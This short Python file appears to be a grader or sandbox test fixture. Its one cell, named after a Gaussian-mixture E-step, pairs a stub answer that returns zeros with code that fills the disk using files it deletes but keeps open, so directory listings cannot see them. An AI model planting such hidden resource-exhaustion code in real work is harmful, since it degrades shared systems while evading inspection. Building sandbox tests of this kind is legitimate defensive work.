"""Fills the disk with files that it deletes at once but keeps open: no walk through its folder finds them."""

CELLS = {
    "estep": r"""
import os
import time

import numpy as np


def estep(X, mixture):
    return np.zeros((len(X), len(mixture.p))), 0.0


kept = []
for number in range(40):
    try:
        file = os.open(f"f{number}", os.O_RDWR | os.O_CREAT)
        os.unlink(f"f{number}")
        os.posix_fallocate(file, 0, 2**26)
        kept.append(file)
    except OSError:
        break
free = os.statvfs(".").f_bavail * os.statvfs(".").f_frsize
print(len(kept), "files of 64 MB are held")
""",
}
